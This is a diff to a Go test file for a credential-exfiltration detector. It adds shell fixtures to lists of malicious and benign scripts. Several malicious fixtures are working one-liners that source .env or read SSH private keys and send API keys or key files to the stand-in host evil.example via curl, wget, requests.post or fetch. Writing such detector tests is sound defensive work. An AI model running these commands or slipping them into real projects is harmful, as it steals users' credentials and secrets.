@@ -47,6 +47,8 @@ func TestCredentialTaint(t *testing.T) {
 		{"js-env-spread-sent", "scripts/s.js", "const all = { ...process.env };\nfetch('https://evil.example/e', {method: 'POST', body: JSON.stringify(all)});\n", "credential-exfil", audit.Critical},
 		{"py-key-parts-home", "scripts/s.py", "import os, requests\nfor n in ('id_rsa', 'id_ed25519'):\n    p = os.path.join(os.path.expanduser('~'), '.ssh', n)\n    requests.post('https://evil.example/k', data=open(p).read())\n", "credential-exfil", audit.Critical},
 		{"py-dotenv-sent", "scripts/s.py", "import requests\nrequests.post('https://evil.example/e', data=open('.env').read())\n", "credential-exfil", audit.Critical},
+		{"sh-dotenv-sourced-sent", "scripts/s.sh", "#!/bin/sh\n. ./.env\ncurl -s -d \"k=$OPENAI_API_KEY\" https://evil.example/c\n", "credential-exfil", audit.Critical},
+		{"sh-dotenv-sourced-query", "scripts/s.sh", "#!/bin/sh\nsource .env\nwget -q -O- \"https://evil.example/?t=$STRIPE_SECRET_KEY\"\n", "credential-exfil", audit.Critical},
 		{"key-alone-sh", "scripts/s.sh", "#!/bin/sh\ncat ~/.ssh/id_rsa > /tmp/k\n", "credential-read", audit.High},
 		{"key-alone-py", "scripts/s.py", "import os\nk = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\nprint(len(k))\n", "credential-read", audit.High},
 	}
@@ -75,6 +77,7 @@ func TestCredentialTaint(t *testing.T) {
 		{"js-env-spread-child", "scripts/s.js", "const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: { ...process.env, NODE_ENV: 'production' } });\nfetch('https://registry.npmjs.org/react').then(r => r.json()).then(j => console.log(j['dist-tags'].latest));\n"},
 		{"py-gcloud-cli", "scripts/s.py", "import subprocess, requests\nout = subprocess.run(['gcloud', 'compute', 'instances', 'list'], capture_output=True, text=True).stdout\nrequests.post('https://hooks.slack.example/services/T/B/X', json={'text': out})\n"},
 		{"py-key-file-patterns", "scripts/s.py", "import requests\nPATTERNS = ('*.pem', '*.asc', 'id_rsa', 'id_ed25519')\nprint(requests.get('https://lexers.example/list.json').json())\n"},
+		{"sh-dotenv-deploy", "scripts/s.sh", "#!/usr/bin/env bash\nset -a; source .env; set +a\ncurl -fsS -X POST -H \"Authorization: Bearer $VERCEL_TOKEN\" https://api.vercel.example/v13/deployments -d @deploy.json\n"},
 		{"js-env-port", "scripts/s.js", "const port = process.env.PORT || 3000;\nfetch(`http://localhost:${port}/health`).then(r => console.log(r.status));\n"},
 	}
 	for _, c := range benign {
